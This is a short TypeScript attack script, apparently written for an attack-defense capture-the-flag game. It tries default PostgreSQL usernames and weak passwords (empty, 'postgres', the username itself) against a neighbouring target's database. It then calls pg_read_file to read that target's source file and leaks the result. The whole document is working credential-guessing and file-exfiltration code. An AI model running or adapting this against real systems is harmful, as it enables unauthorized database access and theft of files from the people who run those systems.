import { query } from './query.ts';
import { targets } from './targets.ts';
import { attemptAsync, leak } from './tools.ts';

for (const user of ['postgres', 'root', 'checker', 'nobody'])
  for (const password of ['', 'postgres', user])
    await attemptAsync(async () => {
      leak(
        await query(`SELECT pg_read_file('${targets.neighbour}/src/main.ts')`, (url) => {
          url.username = user;
          url.password = password;
          url.pathname = '/postgres';
        }),
      );
    }, 1500);
